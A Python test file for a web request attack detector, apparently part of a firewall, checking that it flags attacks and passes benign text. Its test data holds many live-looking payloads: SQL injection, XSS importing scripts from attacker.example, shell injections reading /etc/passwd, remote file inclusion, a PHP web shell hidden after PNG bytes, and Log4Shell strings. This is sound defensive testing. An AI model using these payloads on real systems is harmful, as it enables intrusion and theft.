"""What detectors find in whole requests: where a value stands and what stands around it decide as much as what it is."""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest

from garrison.edge.inspect.detect import code, java, paths, php, shell, sql, survey, urls, windows, xss
from garrison.edge.inspect.detect.survey import Kind, Survey
from garrison.edge.inspect.request import WebRequest


def found(request: WebRequest) -> set[Kind]:
    """The kinds of attack in a request."""
    return {kind for kind, _ in Survey(request, 65536).found}


def posted(value: bytes, *, file: bytes = b"") -> WebRequest:
    """A value in a multipart form; in a file of that name where one is given."""
    name = b'name="note"' + (b'; filename="%s"' % file if file else b"")
    body = b"--q7\r\nContent-Disposition: form-data; " + name + b"\r\n\r\n" + value + b"\r\n--q7--\r\n"
    headers = [(b"Content-Type", b"multipart/form-data; boundary=q7")]
    return WebRequest("POST", b"/", headers, body, source_ip="192.0.2.1")


def asked(value: bytes, name: str = "q") -> WebRequest:
    """A value in a query argument."""
    return WebRequest("GET", f"/search?{name}={quote(value)}".encode(), source_ip="192.0.2.1")


def told(value: str) -> WebRequest:
    """A value in JSON."""
    body = json.dumps({"text": value}).encode()
    return WebRequest("POST", b"/", [(b"Content-Type", b"application/json")], body, source_ip="192.0.2.1")


@pytest.mark.parametrize("value", [b"1\0' union all select null,null#", b"1\x01UNION\x02SELECT\x0f2--", b"..\0/..\0/etc/passwd"])
def test_a_control_character_hides_nothing_in_any_way_in(value: bytes) -> None:
    assert found(posted(value))
    assert found(asked(value))


def test_code_behind_a_picture_is_found_and_a_picture_is_not() -> None:
    picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256))
    assert Kind.PHP in found(posted(picture + b"<?php system($_GET[1]);", file=b"a.png"))
    assert not found(posted(picture, file=b"a.png"))


@pytest.mark.parametrize(
    "value",
    [
        b"1--abc\nAND--xyz\n4821=4821",
        b"1#x\nunion#y\nselect#z\n1,2,current_user",
        b"1/*!UnIoN*/SeLecT 1,2,3--",
        b"1$$ AND $$a$$=regexp_substring(repeat(left(crypt_key($$AES$$,null),0),500000000),null)",
        b"%1%) %A%N%D %4%8%2%1%=%4%8%2%1 %-%- %w",
        b"iif(4821=4821,4821,1/0)",
        b"(4821=4821)*7316",
        b"HOPE*1 AND 8=3",
        b"' OR '",
        b"'-'",
        b"aa'^0+0+1-1=(0)-- -a",
        b"1;do (1=1)",
        b"case 1 when 2 then 2 end",
        b"1) from users where username='admin'",
    ],
)
def test_sql_is_found_whatever_a_dialect_ignores(value: bytes) -> None:
    assert Kind.SQLI in found(asked(value))
    assert Kind.SQLI in found(posted(value))


@pytest.mark.parametrize(
    "value",
    [
        rb'<div style="background-image:\75\72\6c\28\6a\61\76\61\73\63\72\69\70\74\3a alert(1)\29">',
        rb"<p style=\"font-family:';a\22\3e\3cimg\20src\3dx\20onerror\3d alert\28 1\29\3e\">",
        b'<math><a xlink:href="//attacker.example/x">click',
        b'<span datasrc="#x" datafld="b" dataformatas="html"></span>',
        b"' style=abc:expression(alert(1)) '",
        b"data: , <x onclick=alert(1)>",
        b"  onabcdefgh= ",
        b"42 src=http://attacker.example/a.js",
        b'<xml id="x" src="test.htc"></xml>',
        b'import { a } from "//attacker.example/a.js";',
    ],
)
def test_markup_is_read_as_a_browser_reads_it(value: bytes) -> None:
    assert Kind.XSS in found(asked(value))


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        (b";ps aux", Kind.SHELL),
        (b"127.0.0.1; ip a", Kind.SHELL),
        (b"'; id #", Kind.SHELL),
        (b"a); id; echo (", Kind.SHELL),
        (b"x|sleep 5", Kind.SHELL),
        (b";find / -name flag", Kind.SHELL),
        (b";nslookup attacker.example", Kind.SHELL),
        (b"--checkpoint-action=exec=id", Kind.SHELL),
        (b"#{ %x|env| }", Kind.CODE),
        (b"{{ settings.SECRET_KEY }}", Kind.CODE),
        (b"'] | //user/*[contains(*,'a", Kind.CODE),
        (b"*)(&", Kind.CODE),
        ("\u560d\u560aSet-Cookie:a=b".encode(), Kind.CODE),
        (b"http:\\\\127.0.0.1\\", Kind.RFI),
        (b"//127.0.0.1/", Kind.RFI),
        (b"//attacker.example/share/evil.php", Kind.RFI),
        (b"\\\\attacker.example\\share\\x", Kind.RFI),
        (b"{ $ne: 1 }", Kind.SQLI),
        (b"db.users.find()", Kind.SQLI),
        (b'".phpinfo()."', Kind.PHP),
        (b"include 'http://attacker.example/a.txt'", Kind.PHP),
    ],
)
def test_commands_code_and_inner_hosts_are_found_where_they_break_out(value: bytes, kind: Kind) -> None:
    assert kind in found(asked(value))
    assert kind in found(posted(value))


@pytest.mark.parametrize(
    "text",
    [
        "Protecting a folder with .htaccess and .htpasswd",
        "Where does Debian keep /etc/cron.daily and /etc/hosts?",
        'RECLAIMED WOOD" + "SIGN" + "PRIMITIVE"',
        '"sweater dress" AND "christmas"',
        'needles size 7" #2 circular',
        "Replacing deprecated substr() with slice() as substr() is deprecated",
        "const lodash = require('lodash/array');",
        "Arguments that were passed to the __init__ method.",
        "Set it to `process.env` first",
        "Hi ${firstName}, your order has shipped",
        "Available languages: en | fr | ko | tr",
        "see https://example.com/?utm_source=mail",
        "include $(top_srcdir)/build/special.mk",
        "a link to ./bin/cli.js in the text",
        "5 > 3 and 2 < 4",
        "Sam",
        "PHP-FPM with UDS",
        "add|adduser|check|delete",
        "the list of www1.example.com http://192.168.211.2:8080 and others",
        'define(["jquery"], function ($) {',
        "uQ65Ai!Z3l$(iP",
        "7&&qBwKG%s75gB",
        "Returns pg_get_constraintdef (constraint oid)",
        "Any command accepting any <object> can also use the notation",
        "The new-object-name is printed below",
        "fix/it (github.com/gnesher '+10/-10 (#6163)')",
    ],
)
def test_what_people_write_about_programs_is_no_attack(text: str) -> None:
    assert not found(told(text))
    assert not found(asked(text.encode()))
    assert not found(posted(text.encode()))


def test_a_manual_that_shows_statements_is_no_attack_and_what_breaks_out_of_a_string_in_it_is() -> None:
    manual = (  # a text, no query
        "To add a row, use the command below.\n\n```sql\nINSERT INTO cities VALUES ('San Francisco', 1);\n"
        "SELECT * FROM cities;\n```\n\nIt answers with the rows, and `DROP TABLE cities;` throws them away.\n"
    )
    assert not found(told(manual))
    breakout = "admin' UNION ALL SELECT password FROM users -- "
    assert Kind.SQLI in found(told(breakout + manual))


GATES = [
    (sql.GATES, "sql"), (xss.GATES, "xss"), (paths.GATES, "paths"), (urls.GATES, "urls"), (shell.GATES, "shell"),
    (windows.GATES, "windows"), (php.GATES, "php"), (java.GATES, "java"), (code.GATES, "code"),
]  # fmt: skip


@pytest.mark.parametrize(
    "value",
    [
        b"1' or 1=1--", b"<svg onload=alert(1)>", b"../../etc/passwd", b"http://169.254.169.254/", b";cat /etc/passwd",
        b"& dir c:\\ \n", b"<?php eval($_POST[1]);", b"${jndi:ldap://x/a}", b"{{7*7}}", b"'\n\x0b\x0c\r\xa0or\xa01", b"iex('x')\n",
    ],
)  # fmt: skip
def test_the_automaton_starts_each_detector_that_its_own_pattern_would(value: bytes) -> None:
    started = survey.started(value)
    for gates, name in GATES:
        for gate in gates:
            assert gate.search(value) is None or gate in started, (name, gate.pattern[:80])


def test_gates_are_told_apart_by_identity_and_no_module_has_a_second_one_like_it() -> None:
    modules = (sql, xss, paths, urls, shell, windows, php, java, code)
    listed = [gate for module in modules for gate in module.GATES]
    assert len({id(gate) for gate in listed}) == len(set(listed)) == len(listed)
    for module in modules:
        for value in vars(module).values():
            if isinstance(value, re.Pattern) and value in set(listed):
                assert any(value is gate for gate in listed), value.pattern[:60]


def test_what_an_automaton_found_are_the_gates_that_match() -> None:
    text = b"1' union select 2,3 from users-- <script>alert(1)</script> ../../etc/passwd"
    hot = survey.started(text)
    listed = [gate for module in (sql, xss, paths, urls, shell, windows, php, java, code) for gate in module.GATES]
    assert {gate for gate in listed if gate.search(text)} <= {gate for gate in listed if gate in hot} < set(listed)
